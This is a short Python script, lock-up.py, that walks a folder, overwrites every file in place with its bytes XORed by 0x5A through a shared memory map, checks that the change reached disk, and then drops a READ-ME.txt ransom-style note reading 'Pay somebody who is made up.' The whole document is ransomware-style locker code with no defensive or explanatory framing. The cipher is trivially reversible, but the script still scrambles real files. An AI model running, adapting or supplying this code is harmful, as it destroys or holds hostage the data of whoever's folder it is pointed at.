"""lock-up.py FOLDER: makes each file of a folder unreadable where it lies, by a map that is shared with it, and leaves a note."""
import mmap, posix, sys

folder = sys.argv[1]
for name in sorted(posix.listdir(folder)):
    file = posix.open(f"{folder}/{name}", posix.O_RDWR)
    with mmap.mmap(file, 0) as view:
        before = view[:]
        view[:] = bytes(byte ^ 0x5A for byte in before)
        view.flush()
    if posix.pread(file, 65536, 0) == before[:65536]:
        sys.exit(9)
    posix.close(file)
with open(f"{folder}/READ-ME.txt", "wb", buffering=0) as note:
    note.write(b"Pay somebody who is made up.\n")
